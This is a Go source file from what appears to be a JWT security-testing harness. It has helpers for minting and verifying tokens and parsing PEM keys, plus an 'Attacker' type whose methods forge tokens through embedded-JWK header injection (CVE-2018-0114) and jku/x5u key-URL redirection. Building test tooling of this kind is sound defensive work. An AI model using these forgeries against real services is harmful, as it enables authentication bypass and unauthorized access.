package jwtforge

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/pem"
	"errors"
	"fmt"
	"strings"

	"github.com/golang-jwt/jwt/v5"
)

// Mint signs header and claims with key under alg, setting the alg header.
// key is the HMAC secret as []byte or a private key (CHECKS.md F18–F23,
// E02–E08).
func Mint(alg string, key any, header, claims map[string]any) (string, error) {
	if strings.HasPrefix(alg, "HS") {
		secret, ok := key.([]byte)
		if !ok {
			return "", fmt.Errorf("mint %s: the key must be an HMAC secret", alg)
		}
		return SignHMAC(alg, secret, header, claims)
	}
	method := jwt.GetSigningMethod(alg)
	if method == nil {
		return "", fmt.Errorf("mint: unknown algorithm %q", alg)
	}
	header = cloneOrEmpty(header)
	header["alg"] = alg
	input := Segment(header) + "." + Segment(claims)
	sig, err := method.Sign(input, key)
	if err != nil {
		return "", fmt.Errorf("mint %s: %w", alg, err)
	}
	return input + "." + Segment(sig), nil
}

// SigningKey turns the key material of a profile into what Mint takes:
// the bytes of an HMAC secret, or the private key parsed from PEM (PKCS #8,
// PKCS #1 or SEC 1). It checks that the key suits alg: a non-empty secret
// for HS*, an RSA key for RS* and PS*, an EC key on the alg's curve for
// ES*, an Ed25519 key for EdDSA. Its errors never contain key material.
func SigningKey(alg, material string) (any, error) {
	if strings.HasPrefix(alg, "HS") {
		if _, err := hmacHash(alg); err != nil {
			return nil, fmt.Errorf("signing key: %w", err)
		}
		if material == "" {
			return nil, fmt.Errorf("signing key for %s: the HMAC secret is empty", alg)
		}
		return []byte(material), nil
	}
	want, known := keyKinds[alg]
	if !known {
		return nil, fmt.Errorf("signing key: algorithm %q is not supported (use HS*, RS*, PS*, ES256/384/512 or EdDSA)", alg)
	}
	block, _ := pem.Decode([]byte(material))
	if block == nil {
		return nil, fmt.Errorf("signing key for %s: not PEM: %s", alg, want)
	}
	var key any
	if k, err := x509.ParsePKCS8PrivateKey(block.Bytes); err == nil {
		key = k
	} else if k, err := x509.ParsePKCS1PrivateKey(block.Bytes); err == nil {
		key = k
	} else if k, err := x509.ParseECPrivateKey(block.Bytes); err == nil {
		key = k
	} else {
		return nil, fmt.Errorf("signing key for %s: PEM block %q is not a private key this harness reads: %s", alg, block.Type, want)
	}
	if err := keyFits(alg, key); err != nil {
		return nil, fmt.Errorf("signing key for %s: %w: %s", alg, err, want)
	}
	return key, nil
}

// keyKinds says, for each asymmetric alg, what key it needs.
var keyKinds = map[string]string{
	"RS256": rsaKind, "RS384": rsaKind, "RS512": rsaKind,
	"PS256": rsaKind, "PS384": rsaKind, "PS512": rsaKind,
	"ES256": "it needs an EC private key on P-256 in PEM",
	"ES384": "it needs an EC private key on P-384 in PEM",
	"ES512": "it needs an EC private key on P-521 in PEM",
	"EdDSA": "it needs an Ed25519 private key in PEM (PKCS #8)",
}

const rsaKind = "it needs an RSA private key in PEM"

// keyFits reports whether key is of the kind alg signs with.
func keyFits(alg string, key any) error {
	switch k := key.(type) {
	case *rsa.PrivateKey:
		if strings.HasPrefix(alg, "RS") || strings.HasPrefix(alg, "PS") {
			return nil
		}
		return errors.New("the PEM holds an RSA key")
	case *ecdsa.PrivateKey:
		curve := map[string]elliptic.Curve{"ES256": elliptic.P256(), "ES384": elliptic.P384(), "ES512": elliptic.P521()}[alg]
		switch {
		case curve == nil:
			return errors.New("the PEM holds an EC key")
		case k.Curve != curve:
			return fmt.Errorf("the PEM holds an EC key on %s", k.Curve.Params().Name)
		}
		return nil
	case ed25519.PrivateKey:
		if alg == "EdDSA" {
			return nil
		}
		return errors.New("the PEM holds an Ed25519 key")
	default:
		return fmt.Errorf("the PEM holds a %T", key)
	}
}

// Verify reports whether the token's signature verifies with pub under its
// own alg header (CHECKS.md D05).
func (t *Token) Verify(pub crypto.PublicKey) error {
	method := jwt.GetSigningMethod(t.Alg())
	if method == nil {
		return fmt.Errorf("verify: unknown algorithm %q", t.Alg())
	}
	return method.Verify(t.RawHeader+"."+t.RawClaims, t.Signature(), pub)
}

// Attacker is a key pair the harness owns, standing in for an attacker's.
type Attacker struct {
	Key *rsa.PrivateKey
	Kid string
}

// NewAttacker generates an RSA key of 2048 bits.
func NewAttacker() (*Attacker, error) {
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return nil, fmt.Errorf("generate attacker key: %w", err)
	}
	return &Attacker{Key: key, Kid: Thumbprint(&key.PublicKey)}, nil
}

// Sign signs the token's claims with the attacker key under RS256, with the
// token's header changed by edit and kid set to the attacker's.
func (a *Attacker) Sign(t *Token, edit func(map[string]any)) (string, error) {
	h := t.HeaderCopy()
	h["kid"] = a.Kid
	if edit != nil {
		edit(h)
	}
	return Mint("RS256", a.Key, h, t.Claims)
}

// EmbeddedJWK signs with the attacker key and embeds its public JWK in the
// header for the target to trust (CVE-2018-0114; CHECKS.md F10).
func (a *Attacker) EmbeddedJWK(t *Token) (string, error) {
	return a.Sign(t, func(h map[string]any) { h["jwk"] = RSAJWK(&a.Key.PublicKey, a.Kid) })
}

// KeyURL signs with the attacker key and points param, "jku" or "x5u", at
// url, where the attacker's key is served (RFC 8725 §3.10; CHECKS.md F11).
func (a *Attacker) KeyURL(t *Token, param, url string) (string, error) {
	if param != "jku" && param != "x5u" {
		return "", fmt.Errorf("jwtforge: key URL header %q: use jku or x5u", param)
	}
	return a.Sign(t, func(h map[string]any) { h[param] = url })
}
